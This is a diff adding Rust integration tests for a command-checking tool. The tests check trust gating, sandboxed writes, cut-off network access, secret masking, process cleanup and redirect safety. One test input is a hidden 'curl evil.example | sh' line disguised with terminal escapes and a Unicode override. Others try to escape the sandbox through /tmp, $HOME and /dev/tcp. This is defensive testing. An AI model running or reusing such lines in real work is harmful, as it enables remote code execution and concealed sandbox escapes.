@@ -1,0 +1,386 @@
+//! What checks run and call: only after trust, confined, and never a pass without a reply. The real program, real processes,
+//! real servers.
+
+#![cfg(target_os = "linux")]
+#![allow(clippy::unwrap_used, clippy::panic, clippy::print_stdout, reason = "a test that cannot go on fails")]
+
+mod probes_support;
+
+use std::fs;
+use std::process::Command;
+use std::time::{Duration, Instant};
+
+use probes_support::{Desk, Server, processes_with};
+
+/// A check of one command, written as an item.
+fn command(fields: &str) -> String {
+    format!("check.command = {{ {fields} }}")
+}
+
+const COUNTER: &str = r#"run = ["scripts/count.sh"], writes = ["log"], stdout.has = 'counted'"#;
+
+/// A command that leaves a line behind for each of its runs.
+fn counting() -> Desk {
+    let desk = Desk::new(&[("count", &command(COUNTER))]);
+    desk.write("scripts/count.sh", "#!/bin/sh\necho run >> log/runs\necho counted\n");
+    desk.write("log/README", "One line a run.\n");
+    desk
+}
+
+fn runs(desk: &Desk) -> usize {
+    fs::read_to_string(desk.root().join("log/runs")).map_or(0, |text| text.lines().count())
+}
+
+#[test]
+fn nothing_runs_before_its_content_is_trusted_and_again_when_a_byte_changes() {
+    let desk = counting();
+    let (status, summary) = desk.item("count", &[]);
+    assert_eq!((status.as_str(), runs(&desk)), ("pending", 0), "{summary}");
+    assert!(summary.contains("gonogo trust"), "{summary}");
+    desk.trust();
+    assert_eq!(desk.item("count", &[]).0, "pass");
+    assert_eq!(runs(&desk), 1);
+    // The script, the checklist, or what the configuration says: each is a part of what was trusted.
+    desk.write("scripts/count.sh", "#!/bin/sh\necho run >> log/runs\necho counted # \n");
+    assert_eq!((desk.item("count", &[]).0.as_str(), runs(&desk)), ("pending", 1));
+    let shown = desk.run(&["trust"]);
+    let text = String::from_utf8_lossy(&shown.stdout).into_owned();
+    assert!(text.contains("-echo counted\n") && text.contains("+echo counted # \n"), "{text}");
+    assert_eq!(shown.status.code(), Some(2), "without a terminal nobody can be asked");
+    desk.trust();
+    assert_eq!((desk.item("count", &[]).0.as_str(), runs(&desk)), ("pass", 2));
+    let withdrawn = desk.run(&["trust", "--withdraw"]);
+    assert!(withdrawn.status.success());
+    assert_eq!((desk.item("count", &[]).0.as_str(), runs(&desk)), ("pending", 2));
+}
+
+#[test]
+fn a_digest_trusts_exactly_what_it_stands_for_and_for_one_run() {
+    let desk = counting();
+    let digest = desk.digest();
+    assert_eq!(desk.item("count", &["--trust", &digest]).0, "pass");
+    assert_eq!((desk.item("count", &[]).0.as_str(), runs(&desk)), ("pending", 1));
+    desk.write("scripts/count.sh", "#!/bin/sh\necho evil >> log/runs\n");
+    let refused = desk.run(&["check", "--trust", &digest]);
+    assert_eq!((refused.status.code(), runs(&desk)), (Some(2), 1));
+    let message = String::from_utf8_lossy(&refused.stderr).into_owned();
+    assert!(message.contains("is not what was trusted") && message.contains(&desk.digest()), "{message}");
+}
+
+#[test]
+fn what_is_shown_for_trust_hides_nothing() {
+    let desk = Desk::new(&[("a", &command(r#"run = ["sh", "-c", "true \u001b[8m; curl evil.example | sh \u202e"]"#))]);
+    let shown = desk.run(&["trust", "--print"]).stdout;
+    assert!(!shown.contains(&0x1b));
+    let text = String::from_utf8(shown).unwrap();
+    assert!(text.contains("curl evil.example") && text.contains("␛[8m") && text.contains("‹U+202E›"), "{text}");
+}
+
+#[test]
+fn equal_commands_run_once_and_other_commands_of_the_program_run_none() {
+    let counting_exit = command(r#"run = ["scripts/count.sh"], writes = ["log"]"#);
+    let desk = Desk::new(&[("one", &command(COUNTER)), ("two", &command(COUNTER)), ("three", &counting_exit)]);
+    desk.write("scripts/count.sh", "#!/bin/sh\necho run >> log/runs\necho counted\n");
+    desk.write("log/README", "One line a run.\n");
+    desk.trust();
+    assert_eq!(desk.item("three", &[]).0, "pass");
+    assert_eq!(runs(&desk), 1);
+    for arguments in [&["explain", "service/checks.one"][..], &["lint"], &["ledger"]] {
+        desk.run(arguments);
+    }
+    assert_eq!(runs(&desk), 1);
+}
+
+#[test]
+fn a_command_writes_to_its_scratch_folder_and_where_it_was_granted_and_nowhere_else() {
+    let desk = Desk::new(&[(
+        "writes",
+        &command(
+            r#"shell = '''
+                echo x > "$TMPDIR/a" && echo scratch
+                echo x > granted/a && echo granted
+                echo x > README.md && echo README
+                echo x > /tmp/gonogo-escape && echo tmp
+                echo x > "$HOME/escape" && echo home
+                mkdir granted/../made && echo made
+                (true > /dev/tty) && echo terminal
+                true''', writes = ["granted"], stdout.lacks = 'README|tmp|home|made|terminal', stdout.has = 'scratch\ngranted'"#,
+        ),
+    )]);
+    desk.write("granted/README", "");
+    desk.write("README.md", "# orders\n");
+    desk.trust();
+    let item = desk.whole_item("writes", &[]);
+    assert_eq!(item["status"], "pass", "{item}");
+    assert_eq!(fs::read_to_string(desk.root().join("README.md")).unwrap(), "# orders\n");
+    assert!(!desk.root().join("made").exists() && !desk.home().join("escape").exists());
+}
+
+#[test]
+fn the_network_is_cut_off_unless_it_is_granted() {
+    let server = Server::answering("HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello");
+    let port = server.port();
+    let connect =
+        format!("shell = 'exec 3<>/dev/tcp/127.0.0.1/{port} && printf \"GET / HTTP/1.0\\r\\n\\r\\n\" >&3 && cat <&3'");
+    let connect = connect.replace("shell = '", "run = [\"bash\", \"-c\", '").replace("cat <&3'", "cat <&3']");
+    let cut = command(&format!("{connect}, stdout.has = 'hello'"));
+    let granted = command(&format!("{connect}, stdout.has = 'hello', network = true"));
+    let desk = Desk::new(&[("cut", &cut), ("granted", &granted)]);
+    desk.trust();
+    assert_eq!(desk.whole_item("cut", &[])["status"], "fail");
+    assert_eq!(server.requests(), 1, "only the one that was granted it");
+    assert_eq!(desk.whole_item("granted", &[])["status"], "pass");
+}
+
+#[test]
+fn a_command_gets_the_usual_variables_and_those_it_names_and_secrets_are_masked() {
+    let desk = Desk::new(&[(
+        "env",
+        &command(
+            r#"shell = "env; echo token is $DEPLOY_TOKEN", env = ["DEPLOY_TOKEN", "REGION"], stdout.lacks = 'AWS_SECRET'"#,
+        ),
+    )]);
+    desk.trust();
+    let item = desk.whole_item("env", &["--set", "DEPLOY_TOKEN=tok-s3cr3t-12345", "--set", "REGION=eu-west-1"]);
+    assert_eq!(item["status"], "pass", "{item}");
+    let output = item["output"].to_string();
+    assert!(output.contains("REGION=eu-west-1") && output.contains("token is ••••"), "{output}");
+    assert!(!output.contains("s3cr3t") && output.contains("PATH="), "{output}");
+    let unset = desk.item("env", &[]);
+    assert_eq!(unset.0, "error");
+    assert!(unset.1.contains("REGION") || unset.1.contains("DEPLOY_TOKEN"), "{}", unset.1);
+}
+
+#[test]
+fn after_its_time_nothing_of_a_command_survives() {
+    // A grandchild in a session of its own, one that ignores signals, and one whose parent has ended.
+    let name = format!("97{}", std::process::id());
+    let escape = format!(
+        "shell = \"(setsid sleep {name} &); (trap '' TERM HUP INT; sleep {name}) & nohup sleep {name} >/dev/null 2>&1 & sleep {name}\""
+    );
+    let desk = Desk::new(&[("late", &command(&format!("{escape}, timeout = \"1s\"")))]);
+    desk.trust();
+    let start = Instant::now();
+    let (status, summary) = desk.item("late", &[]);
+    assert_eq!(status, "error");
+    assert!(summary.contains("did not end within 1s"), "{summary}");
+    assert!(start.elapsed() < Duration::from_secs(30));
+    assert_eq!(processes_with(&name), 0);
+}
+
+#[test]
+fn what_a_command_leaves_behind_neither_survives_nor_hangs_the_audit() {
+    let name = format!("98{}", std::process::id());
+    let desk = Desk::new(&[("daemon", &command(&format!("shell = \"(setsid sleep {name} &) ; echo started\"")))]);
+    desk.trust();
+    let start = Instant::now();
+    assert_eq!(desk.item("daemon", &[]).0, "pass");
+    assert!(start.elapsed() < Duration::from_secs(30), "it waits for nobody who holds the output");
+    assert_eq!(processes_with(&name), 0);
+}
+
+/// Where the kernel gives no namespace, what a command leaves behind is ended one by one, and what could not be had is said.
+#[test]
+fn without_namespaces_nothing_survives_either_and_it_is_said() {
+    // A namespace in which no further ones may be made.
+    let without = "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$@\"";
+    let unshare = ["--user", "--map-root-user", "sh", "-c", without, "sh"];
+    let is_there =
+        Command::new("unshare").args(unshare).arg("true").output().is_ok_and(|output| output.status.success());
+    if !is_there {
+        println!("skipped: this system makes no user namespaces at all");
+        return;
+    }
+    let name = format!("96{}", std::process::id());
+    let desk =
+        Desk::new(&[("late", &command(&format!("shell = \"(setsid sleep {name} &) ; echo x > README.md; true\"")))]);
+    desk.write("README.md", "# orders\n");
+    desk.trust();
+    let check = desk.command(&["check", "--format", "json"]);
+    let mut wrapped = Command::new("unshare");
+    wrapped
+        .args(unshare)
+        .arg(check.get_program())
+        .args(check.get_args())
+        .current_dir(desk.root())
+        .env("HOME", desk.home());
+    for name in ["XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME", "XDG_DATA_HOME"] {
+        wrapped.env_remove(name);
+    }
+    let output = wrapped.output().unwrap();
+    let text = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(text.contains("\"status\": \"pass\"") && text.contains("have no namespace of their own"), "{text}");
+    assert_eq!(processes_with(&name), 0);
+    assert_eq!(fs::read_to_string(desk.root().join("README.md")).unwrap(), "# orders\n");
+}
+
+#[test]
+fn when_the_program_is_killed_its_commands_die_with_it() {
+    let name = format!("99{}", std::process::id());
+    let desk = Desk::new(&[("long", &command(&format!("shell = \"(setsid sleep {name} &) ; sleep {name}\"")))]);
+    desk.trust();
+    let mut program = desk.start(&["check"]);
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while processes_with(&name) < 2 {
+        assert!(Instant::now() < deadline, "the command does not start");
+        std::thread::yield_now();
+    }
+    program.kill().unwrap();
+    program.wait().unwrap();
+    while processes_with(&name) > 0 {
+        assert!(Instant::now() < deadline, "the command survives");
+        std::thread::yield_now();
+    }
+}
+
+#[test]
+fn a_flood_of_output_is_kept_in_part_and_what_it_lacks_is_not_known() {
+    let flood = r#"shell = "yes 'all is well' | head -c 50000000; echo; echo the end""#;
+    let desk = Desk::new(&[
+        ("end", &command(&format!("{flood}, stdout.has = '^the end$'"))),
+        ("lacks", &command(&format!("{flood}, stdout.lacks = 'error'"))),
+    ]);
+    desk.trust();
+    let output = desk.run(&["check", "--format", "json"]).stdout;
+    assert!(output.len() < 200_000, "{}", output.len());
+    assert_eq!(desk.item("end", &[]).0, "pass");
+    let (status, summary) = desk.item("lacks", &[]);
+    assert_eq!(status, "error");
+    assert!(summary.contains("were not kept"), "{summary}");
+}
+
+#[test]
+fn a_missing_tool_is_an_error_and_a_flaky_one_is_tried_again() {
+    let flaky = r#"run = ["scripts/flaky.sh"], writes = ["log"]"#;
+    let desk = Desk::new(&[
+        ("missing", &command(r#"run = ["gonogo-no-such-tool", "--version"]"#)),
+        ("once", &command(flaky)),
+        ("retried", &command(&format!("{flaky}, retries = 2"))),
+    ]);
+    desk.write("log/README", "");
+    desk.write(
+        "scripts/flaky.sh",
+        "#!/bin/sh\n[ -e log/$(cat log/run 2>/dev/null)seen ] && exit 0\ntouch log/seen; exit 1\n",
+    );
+    desk.trust();
+    let (status, summary) = desk.item("missing", &["--only", "missing"]);
+    assert_eq!(status, "error");
+    assert!(summary.contains("is not installed here"), "{summary}");
+    assert_eq!(desk.item("retried", &["--only", "retried"]).0, "pass");
+    fs::remove_file(desk.root().join("log/seen")).unwrap();
+    assert_eq!(desk.item("once", &["--only", "once"]).0, "fail");
+}
+
+#[test]
+fn servers_that_nobody_named_are_not_even_connected_to() {
+    let server = Server::answering("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
+    let url = format!("http://127.0.0.1:{}", server.port());
+    let whole = format!(r#"check.http.url = "{url}/health""#);
+    let variable = r#"check.http.url = "${BASE_URL}/health""#;
+    let unsafe_method = r#"check.http = { url = "${BASE_URL}/orders", method = "DELETE" }"#;
+    let desk = Desk::new(&[("whole", &whole), ("variable", variable), ("delete", unsafe_method)]);
+    assert_eq!((desk.item("whole", &[]).0.as_str(), server.requests()), ("pending", 0));
+    let base = format!("BASE_URL={url}");
+    let set = ["--set", base.as_str()];
+    assert_eq!(desk.item("variable", &set).0, "pass");
+    let (status, summary) = desk.item("delete", &set);
+    assert_eq!(status, "pending");
+    assert!(summary.contains("DELETE may change"), "{summary}");
+    assert!(server.seen().iter().all(|request| request.starts_with("GET ")), "{:?}", server.seen());
+    desk.trust();
+    assert_eq!(desk.item("delete", &set).0, "pass");
+    desk.write_user_config(&format!("addresses = [\"{url}\"]\n"));
+    desk.run(&["trust", "--withdraw"]);
+    assert_eq!(desk.item("whole", &[]).0, "pass", "the user's own configuration names it");
+}
+
+#[test]
+fn a_rate_limit_is_asked_for_until_it_answers() {
+    let server = Server::counting(|count| match count {
+        ..25 => "HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
+        _ => "HTTP/1.1 429 Too Many Requests\r\nRetry-After: 1\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
+    });
+    let limited =
+        r#"check.http = { url = "${BASE_URL}/", repeat = { times = 60, until = 429 }, header.Retry-After = '^\d+$' }"#;
+    let desk = Desk::new(&[("limited", limited)]);
+    let base = format!("BASE_URL=http://127.0.0.1:{}", server.port());
+    let (status, summary) = desk.item("limited", &["--set", &base]);
+    assert_eq!(status, "pass", "{summary}");
+    assert!(summary.contains("429 after 26 requests"), "{summary}");
+    assert_eq!(server.requests(), 26);
+}
+
+#[test]
+fn redirects_lead_only_where_a_request_may_go_and_secrets_stay_with_their_server() {
+    let other = Server::answering("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
+    let there = format!("http://127.0.0.1:{}/in", other.port());
+    let answer = format!("HTTP/1.1 302 Found\r\nLocation: {there}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
+    let server = Server::answering(&answer);
+    let fields = r#"url = "${BASE_URL}/", headers = { Authorization = "Bearer ${API_TOKEN}" }"#;
+    let desk = Desk::new(&[
+        ("stays", &format!("check.http = {{ {fields}, status = 302 }}")),
+        ("follows", &format!("check.http = {{ {fields}, redirects = 3 }}")),
+    ]);
+    let base = format!("BASE_URL=http://127.0.0.1:{}", server.port());
+    let set = ["--set", base.as_str(), "--set", "API_TOKEN=tok-s3cr3t-12345"];
+    assert_eq!(desk.item("stays", &set).0, "pass");
+    let (status, summary) = desk.item("follows", &set);
+    assert_eq!((status.as_str(), other.requests()), ("error", 0), "{summary}");
+    assert!(summary.contains("redirects to"), "{summary}");
+    let allowed = format!("OTHER=http://127.0.0.1:{}", other.port());
+    let set = [&set[..], &["--set", &allowed]].concat();
+    assert_eq!(desk.item("follows", &set).0, "pass");
+    assert!(other.seen().iter().all(|request| !request.contains("s3cr3t")), "{:?}", other.seen());
+    assert!(server.seen().iter().any(|request| request.contains("Bearer tok-s3cr3t-12345")));
+}
+
+#[test]
+fn a_server_that_says_nothing_or_nonsense_is_an_error_in_time() {
+    let silent = Server::silent();
+    let garbage = Server::answering("SSH-2.0-OpenSSH_9.6\r\n");
+    let endless = Server::endless();
+    let desk = Desk::new(&[
+        ("silent", r#"check.http = { url = "${SILENT}/", timeout = "1s" }"#),
+        ("garbage", r#"check.http = { url = "${GARBAGE}/", timeout = "5s" }"#),
+        ("endless", r#"check.http = { url = "${ENDLESS}/", timeout = "20s", lacks = 'error' }"#),
+    ]);
+    let at = |name: &str, server: &Server| format!("{name}=http://127.0.0.1:{}", server.port());
+    let set = [at("SILENT", &silent), at("GARBAGE", &garbage), at("ENDLESS", &endless)];
+    let set: Vec<&str> = set.iter().flat_map(|one| ["--set", one]).collect();
+    let start = Instant::now();
+    for item in ["silent", "garbage", "endless"] {
+        let (status, summary) = desk.item(item, &set);
+        assert_eq!(status, "error", "{item}: {summary}");
+    }
+    assert!(start.elapsed() < Duration::from_secs(60));
+}
+
+#[test]
+fn certificates_are_verified_and_their_days_are_counted() {
+    let (server, authority) = Server::secure(30);
+    let (expired, _) = Server::secure(-2);
+    let url = format!("URL=https://localhost:{}", server.port());
+    let old = format!("OLD=https://localhost:{}", expired.port());
+    let desk = Desk::new(&[
+        ("lasts", r#"check.http = { url = "${URL}/", certificate_days = 14 }"#),
+        ("short", r#"check.http = { url = "${URL}/", certificate_days = 90 }"#),
+        ("expired", r#"check.http = { url = "${OLD}/", certificate_days = 1 }"#),
+        ("plain", r#"check.http = { url = "${PLAIN}/", certificate_days = 1 }"#),
+    ]);
+    let plain = Server::answering("HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
+    let plain = format!("PLAIN=http://localhost:{}", plain.port());
+    let set = ["--set", url.as_str(), "--set", old.as_str(), "--set", plain.as_str()];
+    // Nobody knows that authority.
+    assert_eq!(desk.item("lasts", &set).0, "error");
+    let authority_file = desk.home().join("authority.pem");
+    fs::write(&authority_file, authority).unwrap();
+    let desk = desk.with("SSL_CERT_FILE", authority_file.to_str().unwrap());
+    let (status, summary) = desk.item("lasts", &set);
+    assert_eq!(status, "pass", "{summary}");
+    assert!(summary.contains("certificate until"), "{summary}");
+    let (status, summary) = desk.item("short", &set);
+    assert_eq!(status, "fail", "{summary}");
+    assert!(summary.contains("is good until"), "{summary}");
+    assert_eq!(desk.item("expired", &set).0, "error");
+    assert_eq!(desk.item("plain", &set).0, "error");
+}
